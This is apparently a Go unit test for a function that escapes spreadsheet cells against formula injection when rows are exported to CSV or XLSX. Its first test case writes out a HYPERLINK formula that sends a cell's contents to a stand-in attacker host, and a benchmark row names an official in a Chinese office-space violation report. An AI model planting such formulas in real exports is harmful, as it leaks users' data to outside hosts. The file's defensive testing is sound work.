package cell

import "testing"

func TestText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-12.50", "-12.50"}, // a number written as text stays a number
		{"+3", "+3"},
		{"1e-05", "1e-05"},
		{"42", "42"},
		{"", ""},
		{"办公室 101", "办公室 101"},
		{"a=b", "a=b"}, // only the first character counts
		{"-", "'-"},
		{"-Inf", "'-Inf"},
	} {
		if got := Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	row := Row([]string{"=1", "ok"})
	if row[0] != "'=1" || row[1] != "ok" {
		t.Errorf("Row = %q", row)
	}
}

// BenchmarkRow: a row of the over-standard report (18 cells), as every CSV and XLSX row goes through Row.
func BenchmarkRow(b *testing.B) {
	row := []string{"person.over_standard", "超标准使用办公用房", "违规", "常州市人民政府办公室", "曾晓兰", "105",
		"16.20", "9.00", "7.20", "80.0", "", "", "《党政机关办公用房建设标准》(发改投资〔2014〕2674号) 第十三条",
		"曾晓兰（局(处)级以下）办公室使用面积16.20平方米，超过标准9.00平方米，超标7.20平方米（80.0%）。",
		"00000000-0000-81d7-aa52-2d24b4607fe7", "80000000-0008-8135-b3ff-9261b079def3",
		"00000000-0cbe-8c43-a282-50885a84c97b", "-3.50"}
	for b.Loop() {
		Row(row)
	}
}
